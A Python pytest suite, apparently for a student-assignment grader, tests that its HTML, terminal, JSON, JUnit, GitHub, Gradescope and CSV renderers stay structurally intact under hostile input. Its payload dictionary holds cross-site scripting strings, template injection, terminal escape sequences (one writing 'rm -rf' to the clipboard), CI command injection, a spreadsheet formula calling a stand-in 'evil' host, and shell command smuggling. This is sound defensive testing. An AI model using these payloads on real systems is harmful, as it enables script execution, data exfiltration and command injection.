"""A student's text tries to be more than text in everything that the grader writes.

The text stands wherever a zip, a program or its output can put one: file names, labels, messages,
command lines, stdout and stderr, measurements' names, provenance. In each format the poisoned
document has to have the very structure of a harmless one.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from grader.model import Report
from grader.render.check import render_checks
from grader.render.csv_cell import csv_cell
from grader.render.github import github_annotations, summary_of_checks, summary_of_report
from grader.render.gradescope import check_results, gradescope_results
from grader.render.html import html
from grader.render.json_report import report_json
from grader.render.junit import junit_of_checks, junit_of_report
from grader.render.page import check_text
from grader.render.text import text
from tests.unit.render.example_report import example_check, example_report

pytestmark = pytest.mark.attack

HARMLESS = "harmless"
PAYLOADS = {
    "script": "</script><script>window.pwned=1</script>",
    "attribute": '" autofocus onfocus="window.pwned=1" x="',
    "single quotes": "' onmouseover='window.pwned=1",
    "image": "<img src=x onerror=window.pwned=1>",
    "svg": "<svg onload=window.pwned=1><title></svg>",
    "closing": "</pre></bdi></li></table></main></body></html><h1>graded</h1>",
    "style": "</style><style>*{display:none}</style>",
    "comment": "<!-- --!> <![CDATA[ ]]> <?php ?>",
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "entities": "&lt;script&gt;&#60;script&#62;&amp;lt;&nbsp",
    "iframe": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><base href=//evil>",
    "url": "javascript:window.pwned=1 data:text/html,<script>1</script>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil'>",
    "clear screen": "\x1b[2J\x1b[H\x1b[3J all marks",
    "title and clipboard": "\x1b]0;pwned\x07\x1b]52;c;cm0gLXJm\x07\x1bP1$r\x1b\\",
    "8-bit escapes": "\x9b31m\x9d0;pwned\x9c\x90q\x9c",
    "backspaces": "0/5\b\b\b5/5\r5.00 of 5.00",
    "github commands": "x\n::error::pwned\n::set-output name=a::b\n::add-mask::1\r::stop-commands::t",
    "github v1": "##[error]pwned ##[set-env name=PATH;]/evil",
    "other servers": "##vso[task.setvariable variable=x]y ##teamcity[testFinished]",
    "gitlab section": "\x1b[0Ksection_start:1:x\r\x1b[0Kpwned",
    "escaped escapes": "%0A::error::pwned%25%3A%2C",
    "markdown": "[x](javascript:1) ![x](//evil/x.png) | a | b |\n\n# h1 @team #1 <details open>",
    "table": "a | b \\| c\n|---|\n| 5.00 |",
    "formula": '=HYPERLINK("http://evil?"&A1)',
    "command formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv": 'a","5.00"\r\n"b',
    "xml": "]]></failure><testcase name='x'/>&xxe;<!DOCTYPE x>",
    "not xml": "\x00\x0b\ufffe\uffff\ud800\udfff",
    "bidi": "\u202e05.2 skraM\u202c \u2066x\u2069 \u061c",
    "invisible": "gra\u200bded\ufeff \u2060\U000e0041\u00ad\u3164",
    "lines": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "stacked": "Z" + "\u0300\u0489\u20dd" * 500,
    "long": "A" * 20_000,
    "json": '"}],"marks":{"given":"5.00"}}',
    "python": "__import__('os').system('x') %s %(x)s {0.__class__} $(id) `id`",
}


@pytest.fixture(params=PAYLOADS, scope="module")
def payload(request: pytest.FixtureRequest) -> str:
    return PAYLOADS[request.param]


@pytest.fixture(scope="module")
def poisoned(payload: str) -> Report:
    return example_report(images=3, hostile=payload)


@pytest.fixture(scope="module")
def plain() -> Report:
    return example_report(images=3, hostile=HARMLESS)


class _Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and what they enclose."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.parts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append(f"<{tag} {' '.join(name for name, _ in attrs)}>")

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:  # noqa: ARG002
        self.parts.append("<!-- -->")

    def unknown_decl(self, data: str) -> None:  # noqa: ARG002
        self.parts.append("<![ ]>")

    def handle_pi(self, data: str) -> None:  # noqa: ARG002
        self.parts.append("<? >")


def _is_harmless_in_a_log(shown: str) -> bool:
    """No terminal and no build server obeys a character or a line of it."""
    obeyed = re.compile(r"^\s*::[a-z]|##(?:\[|vso\[|teamcity\[)", re.MULTILINE)
    return not obeyed.search(shown) and all(
        char.isprintable() or char in "\n\t\u200c\u200d" for char in shown
    )


# --------------------------------------------------------------------------- the page


@pytest.mark.parametrize("audience", ["ta", "student"])
def test_the_page_keeps_its_structure(poisoned: Report, plain: Report, audience: str) -> None:
    page, calm = (html(report, audience=audience) for report in (poisoned, plain))  # type: ignore[arg-type]
    assert _Skeleton(page).parts == _Skeleton(calm).parts
    assert page.count("<script") == calm.count("<script") == 1


def test_no_template_is_evaluated() -> None:
    page = html(example_report(images=3, hostile="{{ 61 * 67 }}{% set x = 1 %}"))
    assert "{{ 61 * 67 }}{% set x = 1 %}" in page
    assert "4087" not in re.sub(r"base64,[\w+/=]+", "", page)


def test_the_page_holds_no_character_that_hides_or_reorders(poisoned: Report) -> None:
    page = html(poisoned)
    assert all(char.isprintable() or char in "\n\t\u200c\u200d" for char in page)


# --------------------------------------------------------------------------- terminals and logs


def test_what_is_printed_is_obeyed_by_nobody(poisoned: Report, payload: str) -> None:
    check = example_check(hostile=payload)
    for shown in (
        text(poisoned),
        text(poisoned, width_columns=40),
        check_text(check),
        report_json(poisoned),
        junit_of_report(poisoned),
        *(render_checks([check], style) for style in ("text", "json", "junit", "sarif")),
    ):
        assert _is_harmless_in_a_log(shown)


def test_colour_is_the_only_escape_on_a_terminal(poisoned: Report) -> None:
    shown = re.sub("\x1b\\[(?:0|1|2|1;3[136])m", "", text(poisoned, ansi=True))
    assert _is_harmless_in_a_log(shown)


# --------------------------------------------------------------------------- formats


def test_json_keeps_its_keys(poisoned: Report, plain: Report) -> None:
    one, two = (json.loads(report_json(report)) for report in (poisoned, plain))
    for document in (one, two):
        given, most = str(plain.marks), str(plain.max_marks)
        assert document["marks"] == {"given": given, "max": most, "manual": "0"}
    assert list(one) == list(two)
    assert [list(finding) for finding in one["findings"]] == [
        list(finding) for finding in two["findings"]
    ]


def test_junit_keeps_its_structure(payload: str, poisoned: Report, plain: Report) -> None:
    pairs = [
        (
            junit_of_checks([example_check(hostile=payload)]),
            junit_of_checks([example_check(hostile=HARMLESS)]),
        ),
        (junit_of_report(poisoned), junit_of_report(plain)),
    ]
    for shown, calm in pairs:
        tags, calm_tags = (
            [(element.tag, list(element.attrib)) for element in ET.fromstring(t.encode()).iter()]
            for t in (shown, calm)
        )
        assert tags == calm_tags


def test_github_gets_one_annotation_per_finding(payload: str) -> None:
    check = example_check(hostile=payload)
    shown = github_annotations([check])
    assert shown.count("\n") == len(shown.splitlines()) == len(check.findings)
    for line in shown.splitlines():
        match = re.fullmatch(r"::(error|warning|notice) ([^:]*)::(.*)", line)
        assert match
        names = [item.partition("=")[0] for item in match[2].split(",")]
        assert names in (["file", "title"], ["file", "title", "line"])


def test_the_summary_keeps_its_table_and_holds_no_markup(payload: str, poisoned: Report) -> None:
    for shown, columns in (
        (summary_of_checks([example_check(hostile=payload)]), 5),
        (summary_of_report(poisoned), 5),
    ):
        rows = [line for line in shown.split("\n") if line.startswith("|")]
        assert {row.count("|") for row in rows} == {columns}
        assert [line for line in shown.split("\n") if line.startswith("#")] == shown.split("\n")[:1]
        body = shown.replace("**", "")
        assert not re.search(r"[<>`@~]|\]\(|://|javascript:", body)


def test_gradescope_is_given_plain_text(payload: str, poisoned: Report) -> None:
    for results in (gradescope_results(poisoned), check_results(example_check(hostile=payload))):
        shown = json.dumps(results, ensure_ascii=False)
        assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
        assert set(re.findall(r'"\w*format": "(\w+)"', shown)) == {"text"}


# --------------------------------------------------------------------------- spreadsheets


def _cells(*contents: str) -> list[list[str]]:
    file = io.StringIO()
    csv.writer(file).writerow([csv_cell(content) for content in contents])
    return list(csv.reader(io.StringIO(file.getvalue())))


def test_a_csv_stays_one_row_without_a_formula(payload: str) -> None:
    rows = _cells("2023AIB2080", payload, "2.05")
    assert [len(row) for row in rows] == [3]
    assert not re.match(r"\s*[=+\-@|%\t\r＝＋－＠]", rows[0][1])


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.text(st.characters(exclude_categories=())))
def test_any_text_is_one_cell_that_is_no_formula(content: str) -> None:
    rows = _cells(content, "end")
    assert [len(row) for row in rows] == [2]
    assert not re.match(r"[=+\-@\t\r]", rows[0][0].lstrip())
